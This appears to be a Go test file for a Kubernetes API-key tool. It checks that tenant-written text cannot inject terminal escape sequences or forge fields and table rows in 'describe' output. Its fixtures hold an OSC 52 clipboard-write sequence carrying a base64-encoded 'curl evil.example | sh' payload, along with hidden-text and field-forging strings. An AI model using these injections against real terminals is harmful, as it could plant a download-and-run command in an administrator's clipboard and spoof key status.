package main

import (
	"bytes"
	"context"
	"regexp"
	"strings"
	"testing"
	"time"

	. "github.com/onsi/gomega"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	keywardv1 "github.com/keyward-dev/keyward/api/v1alpha1"
)

// What a tenant writes to attack the administrator's terminal: OSC 52 sets
// the clipboard, ESC[8m hides what follows, and a newline with a tab
// forges a field of describe's.
const (
	clipboardWrite = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
	hiddenText     = "\x1b[8m"
	forgedState    = "\nState:\tRevoked"
)

func TestDescribeEscapesWhatATenantWrote(t *testing.T) {
	g := NewWithT(t)
	ctx := context.Background()
	ns := namespace(t, nil)
	k := readyKey(t, ns, "alice-ci", "alice", func(k *keywardv1.APIKey) {
		k.Spec.Description = "payments" + clipboardWrite + hiddenText + forgedState
	})
	// Anyone with edit in the namespace may create Events about its keys.
	g.Expect(admin.Create(ctx, &corev1.Event{
		ObjectMeta:     metav1.ObjectMeta{Namespace: ns, GenerateName: "forged-"},
		InvolvedObject: corev1.ObjectReference{Kind: "APIKey", APIVersion: keywardv1.GroupVersion.String(), Namespace: ns, Name: k.Name, UID: k.UID},
		Type:           corev1.EventTypeNormal, Reason: "Forged" + hiddenText,
		Message:       "rotated" + clipboardWrite + "\nSecret Generation:\t99",
		LastTimestamp: metav1.NewTime(time.Now()), Source: corev1.EventSource{Component: "keyward\x1b[2J"},
	})).To(Succeed())

	var out string
	g.Eventually(func(g Gomega) {
		res := asAdmin("describe", k.Name, "-n", ns)
		g.Expect(res.code).To(Equal(0), res.stderr)
		out = res.stdout
		g.Expect(out).To(ContainSubstring("Forged"))
	}, waitFor).Should(Succeed())
	g.Expect(out).NotTo(ContainSubstring("\x1b"), "no escape sequence reaches the terminal")
	g.Expect(out).To(ContainSubstring("payments^[]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\a^[[8m"), "escaped as kubectl escapes it")
	g.Expect(regexp.MustCompile(`(?m)^State:`).FindAllString(out, -1)).To(HaveLen(1), "a description forges no State line:\n%s", out)
	g.Expect(out).To(MatchRegexp(`(?m)^State:\s+Active$`))
	g.Expect(out).To(MatchRegexp(`(?m)^\s+State: Revoked$`), "the description's second line is indented under its value")
	g.Expect(regexp.MustCompile(`(?m)^Secret Generation:`).FindAllString(out, -1)).To(HaveLen(1), "an Event forges no field")
	g.Expect(out).To(MatchRegexp(`(?m)^\s+Secret Generation: 99$`))
}

func TestTableCellsAreEscapedAndOneLineEach(t *testing.T) {
	g := NewWithT(t)
	k := keywardv1.APIKey{
		ObjectMeta: metav1.ObjectMeta{Namespace: "payments", Name: "alice-ci", CreationTimestamp: metav1.Now()},
		Spec:       keywardv1.APIKeySpec{Owner: "alice"},
		Status: keywardv1.APIKeyStatus{Conditions: []metav1.Condition{{
			Type: keywardv1.ReadyCondition, Status: metav1.ConditionFalse, Reason: "PolicyViolated",
			Message: "role " + clipboardWrite + "\nbob-ci\tbob\tbob/k\tTrue",
		}}},
	}
	var out bytes.Buffer
	g.Expect(printKeys(&out, []keywardv1.APIKey{k}, "wide", false)).To(Succeed())
	g.Expect(out.String()).NotTo(ContainSubstring("\x1b"))
	lines := strings.Split(strings.TrimSpace(out.String()), "\n")
	g.Expect(lines).To(HaveLen(2), "a header and one row, no forged row:\n%s", out.String())
	g.Expect(lines[1]).To(HaveSuffix("role ^[]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\a..."))
}
